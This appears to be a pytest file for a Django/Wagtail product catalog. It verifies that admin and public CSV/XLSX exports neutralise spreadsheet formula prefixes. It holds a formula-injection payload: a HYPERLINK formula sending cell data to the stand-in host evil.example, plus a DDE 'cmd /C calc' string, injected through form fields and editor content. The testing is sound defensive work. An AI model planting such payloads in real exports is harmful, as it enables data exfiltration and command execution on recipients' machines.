"""No cell of any export runs as a formula when the download is opened in a spreadsheet.

Buyers type the inquiries the office exports from the admin; editors type the product
facts and taxonomy names the public exports carry. Each is written here with every
prefix a spreadsheet evaluates, then every export is read back.
"""

import csv
import io

import pytest
from openpyxl import load_workbook

from catalog.factories import ProducerPageFactory, ProductPageFactory
from catalog.models import ProductGroup

pytestmark = pytest.mark.django_db

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"cmd|\' /C calc\'!A0")'
DANGEROUS = tuple(PREFIXES)
INQUIRIES_URL = "/admin/yeu-cau-nguoi-mua/"


def body_of(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response):
    return list(csv.reader(io.StringIO(body_of(response).decode("utf-8-sig"))))


def xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(body_of(response))).active
    return [cell for row in sheet.iter_rows(min_row=2) for cell in row]


def assert_csv_neutralised(rows, typed):
    cells = [cell for row in rows[1:] for cell in row]
    assert [cell for cell in cells if cell.startswith(DANGEROUS)] == []
    # The quote is added, nothing is lost: each typed value is there after it.
    for value in typed:
        assert ("'" + value if value.startswith(DANGEROUS) else value) in cells, value


def assert_xlsx_text(cells, typed):
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    values = {cell.value for cell in cells if cell.data_type == "s"}
    for value in typed:
        # XML reads a carriage return back as a line feed.
        assert value.replace("\r", "\n") in values, value


@pytest.fixture
def submitted_inquiries(client, settings, trade_product):
    """One inquiry per prefix, sent through the product page's public form."""
    settings.BUYERS_INQUIRY_RATE_LIMIT = 100
    for prefix in PREFIXES:
        response = client.post(
            f"/vi/nguoi-mua/lien-he/{trade_product.pk}/",
            {
                "inquiry-name": prefix + PAYLOAD,
                "inquiry-company": prefix + "SUM(1+1)",
                "inquiry-email": f"{prefix}cmd@example.vn" if prefix in "=+-" else "",
                # A phone number typed in international form starts with "+" too.
                "inquiry-phone": "+84 912 345 678" if prefix == "+" else "0912345678",
                "inquiry-quantity": prefix + "2+3",
                "inquiry-message": prefix + PAYLOAD + " xin báo giá",
                "inquiry-website": "",
            },
        )
        assert response.status_code == 302, response.content.decode()[:2000]
    # What was stored, i.e. what the form kept of it (it trims leading whitespace).
    from buyers.models import Inquiry

    typed = set()
    for inquiry in Inquiry.objects.all():
        typed |= {inquiry.name, inquiry.company, inquiry.quantity, inquiry.message, inquiry.phone}
        typed |= {inquiry.email} if inquiry.email else set()
    return typed


def test_admin_inquiries_csv_neutralises_every_formula_prefix(admin_client, submitted_inquiries):
    response = admin_client.get(INQUIRIES_URL, {"export": "csv"})

    assert response.status_code == 200
    rows = csv_rows(response)
    assert len(rows) == 1 + len(PREFIXES)
    assert_csv_neutralised(rows, submitted_inquiries)


def test_admin_inquiries_xlsx_writes_what_buyers_typed_as_text(admin_client, submitted_inquiries):
    response = admin_client.get(INQUIRIES_URL, {"export": "xlsx"})

    assert response.status_code == 200
    assert_xlsx_text(xlsx_cells(response), submitted_inquiries)


@pytest.fixture
def formula_product(catalog_tree):
    """A product whose editor-written facts (and its producer's address) start with each prefix."""
    producer = ProducerPageFactory(parent=catalog_tree[1], address="\r=1+1")
    facts = {
        "title": "=" + PAYLOAD,
        "packaging": "+SUM(1+1)",
        "shelf_life": "-2+3",
        "minimum_order": "@SUM(A1)",
        "production_capacity": "\t=1+1",
    }
    product = ProductPageFactory(parent=catalog_tree[0], producer=producer, **facts)
    product.save_revision().publish()
    return product, set(facts.values()) | {producer.address}


@pytest.fixture
def public_exports(client, formula_product):
    product, _typed = formula_product
    client.post("/vi/nguoi-mua/danh-sach/them/", {"product": product.pk})
    return {
        "shortlist": "/vi/nguoi-mua/danh-sach",
        "catalog": "/vi/nguoi-mua/danh-muc",
    }


@pytest.mark.parametrize("export", ["shortlist", "catalog"])
def test_public_csv_exports_neutralise_every_formula_prefix(client, formula_product, public_exports, export):
    response = client.get(public_exports[export] + ".csv")

    assert response.status_code == 200
    assert_csv_neutralised(csv_rows(response), formula_product[1])


@pytest.mark.parametrize("export", ["shortlist", "catalog"])
def test_public_xlsx_exports_write_text_cells(client, formula_product, public_exports, export):
    response = client.get(public_exports[export] + ".xlsx")

    assert response.status_code == 200
    assert_xlsx_text(xlsx_cells(response), formula_product[1])


def test_statistics_csv_neutralises_editor_written_labels(client, product):
    ProductGroup.objects.filter(code=product.category.group.code).update(name="=" + PAYLOAD)

    rows = csv_rows(client.get("/vi/thong-ke.csv"))

    assert_csv_neutralised(rows, {"=" + PAYLOAD})


def test_wagtail_report_exports_neutralise_editor_written_titles(admin_client, admin_user, product):
    product.title = "=" + PAYLOAD
    product.locked, product.locked_by = True, admin_user
    product.save_revision().publish()

    csv_response = admin_client.get("/admin/reports/locked/", {"export": "csv"})
    xlsx_response = admin_client.get("/admin/reports/locked/", {"export": "xlsx"})

    assert_csv_neutralised(csv_rows(csv_response), {"=" + PAYLOAD})
    assert_xlsx_text(xlsx_cells(xlsx_response), {"=" + PAYLOAD})
